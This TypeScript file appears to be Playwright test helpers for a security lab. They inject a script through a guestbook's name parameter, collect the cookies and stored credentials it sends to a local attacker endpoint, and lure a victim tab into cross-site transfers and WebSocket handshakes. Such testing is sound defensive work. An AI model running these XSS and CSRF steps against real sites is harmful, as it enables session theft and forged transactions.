import type { Page } from '@playwright/test'
import { z } from 'zod'
import type { Lure } from '#lib/scenarios/stage.ts'
import { payload } from './payload.ts'
import { expectOwnSocket, socketOpenedBy } from './lure-to-socket.ts'
import { blockThirdPartyCookies, expectInForce } from './third-party-cookies.ts'

/** The strategy under attack, as far as a thief has to know it. */
interface Aim {
  base: string
  strategy: string
  cookies: readonly { name: string; cookie: string }[]
}

const lootSchema = z.object({
  cookies: z.string(),
  storage: z.record(z.string(), z.string()),
  status: z.number().nullable(),
})
const keptSchema = z.record(z.string(), z.string())
/** The answer's text is kept from another site, and from whoever looks over its shoulder. */
const reasons: Record<number, string> = {
  101: 'nothing was in the way',
  200: 'nothing was in the way',
  400: 'the browser kept the cookies back, that of the workspace too',
  401: 'the browser kept the cookies back',
  403: 'the server saw that it came from another site',
}

/**
 * The status of an answer that lets in or refuses.
 * @throws where there is none, or for that of a server which fails or asks to wait: nobody was refused
 */
function verdictIn(status: number | null | undefined, what = 'transfer'): number {
  if (!status) throw new Error(`the ${what} was not answered`)
  if (status >= 500 || status === 429) throw new Error(`the ${what} was answered with ${status}`)
  return status
}

/** The same server under its other name, which to a browser is another site. */
function attackersSite(base: string): string {
  const site = new URL(base)
  site.hostname = 'localhost'
  return site.origin
}

/** Opens the hole for the workspace of this browser, as only its owner can, and signs with a name. */
export async function signGuestbook(page: Page, base: string, name: string): Promise<void> {
  await page.goto(`${base}/attacker/guestbook.html`)
  await page.getByRole('button', { name: 'Open the hole' }).click()
  await page.waitForURL(/[?]key=/)
  const address = new URL(page.url())
  address.searchParams.set('name', name)
  await page.goto(address.href)
}

/**
 * A script comes in through the guestbook, which shows the name in its address as markup. What it
 * sends home says what it could read, and whether its own request was answered.
 */
export async function inject(page: Page, { base, strategy, cookies }: Aim) {
  const home = `${attackersSite(base)}/attacker/collect`
  // Only the sending matters: nobody is at home.
  await page.route(home, (route) => route.fulfill({ status: 204 }))
  const sent = page.waitForRequest(home)
  const name = payload({ home, transfer: `/api/strategies/${strategy}/transfer` })
  await signGuestbook(page, base, name)
  const loot = lootSchema.parse((await sent).postDataJSON())
  const inCookies = loot.cookies.split('; ').flatMap((pair) => {
    const [wire = '', value = ''] = pair.split(/=(.*)/s)
    const found = cookies.find(({ cookie }) => cookie === wire)
    return found ? [[found.name, value] as const] : []
  })
  const inStorage = Object.entries(loot.storage)
    .filter(([key]) => key.startsWith('lab-credentials ') && key.endsWith(` ${strategy}`))
    .flatMap(([, value]) => Object.entries(keptSchema.parse(JSON.parse(value))))
  return {
    read: Object.fromEntries([...inCookies, ...inStorage]),
    rode: verdictIn(loot.status) === 200,
  }
}

/**
 * The victim opens the attacker's page in another tab, under a policy for third-party cookies that
 * is tried first; what the page asks for is answered in the end.
 */
export async function lure(page: Page, { base, strategy }: Aim, { how, thirdParty }: Lure) {
  const path = `/api/strategies/${strategy}`
  const socket = `${base.replace('http', 'ws')}${path}/socket`
  if (how === 'socket') await expectOwnSocket(page, socket)
  const tab = await page.context().newPage()
  if (thirdParty === 'blocked') await blockThirdPartyCookies(tab)
  const site = `${attackersSite(base)}/attacker/csrf.html`
  await tab.goto(site)
  await expectInForce(tab, new URL(base).hostname, thirdParty)
  const luring = `${site}?${new URLSearchParams({ strategy, how })}`
  const status = verdictIn(
    how === 'socket'
      ? await socketOpenedBy(tab, luring, socket)
      : await transferAskedBy(tab, luring, `${base}${path}/transfer`),
    how === 'socket' ? 'handshake' : 'transfer',
  )
  // A tab that is closed on its way to another page can take the browser with it.
  if (how === 'form') await tab.waitForURL(`${base}${path}/transfer`)
  await tab.close()
  return { done: status < 300, reason: reasons[status] ?? `status ${status}` }
}

/** The status that a page's transfer is answered with. */
async function transferAskedBy(tab: Page, page: string, target: string) {
  const [request] = await Promise.all([
    tab.waitForRequest(target),
    // The form leaves the page before it has loaded.
    tab.goto(page, { waitUntil: 'commit' }),
  ])
  return (await request.response())?.status()
}
